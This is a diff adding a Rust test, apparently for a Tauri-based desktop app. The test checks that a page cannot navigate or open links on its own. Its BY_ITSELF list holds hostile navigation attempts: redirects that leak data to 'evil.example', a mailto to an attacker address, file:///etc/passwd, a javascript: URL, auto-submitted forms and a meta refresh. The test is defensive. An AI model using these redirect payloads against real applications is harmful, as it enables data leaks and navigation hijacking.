@@ -1,7 +1,30 @@
 //! Where a page can lead: to itself, to the user's browser after a click, or nowhere.
 
-use super::insert;
-use crate::{evidence::happened, scene::Scene, wait::until};
+use serde_json::Value;
+
+use super::{insert, run_with_add};
+use crate::{evidence::happened, neighbor::Neighbor, scene::Scene, wait::until};
+
+/// What a page can do without its user; `AWAY` is another server of this computer.
+const BY_ITSELF: [&str; 17] = [
+    "location = 'AWAY/location'",
+    "location.replace('AWAY/replace')",
+    "location = 'https://evil.example/?leak'",
+    "location = 'mailto:mallory@evil.example?body=leak'",
+    "location = 'data:text/html,<h1>data</h1>'",
+    "location = 'file:///etc/passwd'",
+    "location = 'ssh://evil.example/'",
+    "location = 'javascript:window.pwned = 1'",
+    "location = 'about:blank'",
+    "location = 'tauri://other/'",
+    "location = URL.createObjectURL(new Blob(['<h1>blob</h1>'], { type: 'text/html' }))",
+    "add('meta', { httpEquiv: 'refresh', content: '0; url=AWAY/meta' })",
+    "add('iframe', { src: 'AWAY/iframe' })",
+    "add('form', { action: 'AWAY/form' }).submit()",
+    "add('form', { action: 'AWAY/form', method: 'post' }).submit()",
+    "add('a', { href: 'AWAY/click' }).click()",
+    "window.open('AWAY/open')",
+];
 
 /// Waits until the desktop was asked to open `last`, and returns all that it was asked.
 async fn opened_up_to(scene: &Scene, last: &str) -> Vec<String> {
@@ -10,6 +33,31 @@ async fn opened_up_to(scene: &Scene, last: &str) -> Vec<String> {
         opened.iter().any(|it| it == last).then_some(opened)
     })
     .await
+}
+
+#[tokio::test]
+async fn s8_a_page_by_itself_leads_nowhere() {
+    let scene = Scene::open().await;
+    let neighbor = Neighbor::start();
+    let here = scene.ask("location.href").await;
+    scene.ask("window.isStillHere = true").await;
+
+    for script in BY_ITSELF {
+        let script = script.replace("AWAY", &neighbor.site);
+        run_with_add(&scene, &script).await;
+    }
+    let last = format!("{}/clicked", neighbor.site);
+    insert(&scene, &format!("<a id=away href='{last}'>Away</a>")).await;
+    scene.click("#away").await;
+
+    assert_eq!(opened_up_to(&scene, &last).await, [last], "only what was clicked");
+    assert_eq!(scene.ask("location.href").await, here);
+    assert_eq!(scene.ask("window.isStillHere").await, Value::Bool(true));
+    assert_eq!(scene.ask("typeof window.pwned").await, "undefined");
+    assert_eq!(neighbor.requests(), [""; 0], "the window asked nobody else");
+    happened(format!("{} ways tried, the page stayed", BY_ITSELF.len()));
+
+    scene.end().await;
 }
 
 #[tokio::test]
